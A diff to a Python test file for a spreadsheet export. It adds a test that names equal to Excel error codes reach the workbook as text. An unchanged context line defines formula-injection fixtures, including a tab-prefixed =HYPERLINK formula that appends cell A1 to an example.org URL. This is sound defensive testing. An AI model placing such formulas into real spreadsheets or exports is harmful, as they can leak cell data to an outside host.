@@ -220,6 +220,20 @@ def test_names_that_look_like_formulas_reach_every_export_as_text_never_as_a_for
     assert leading == []
 
 
+ERROR_CODES = ("#N/A", "#REF!")
+"""Names openpyxl would store as Excel's error values, not as text (tester 310 F1: a phase named `#N/A` gave 43 error
+cells in the indicators' workbook)."""
+
+
+def test_names_that_are_excel_error_codes_reach_the_workbook_as_text(client: TestClient) -> None:
+    named_as(client, ERROR_CODES)
+
+    workbook = load_workbook(io.BytesIO(client.get("/indicators/export.xlsx").content))
+    cells = [cell for sheet in workbook.worksheets for row in sheet.iter_rows() for cell in row]
+    assert [c.value for c in cells if c.data_type == "e"] == []
+    assert ERROR_CODES[0] in [c.value for c in cells if c.data_type == "s"]  # the phase's name as typed, as text
+
+
 BLANK_LED = ("\t=HYPERLINK(\"http://example.org/x?\"&A1,\"Ver informe\")", "\r=1+1 Olla Común")
 """Texts starting with a tab or a carriage return before a formula: OWASP lists both first characters, defusedcsv neither."""
 
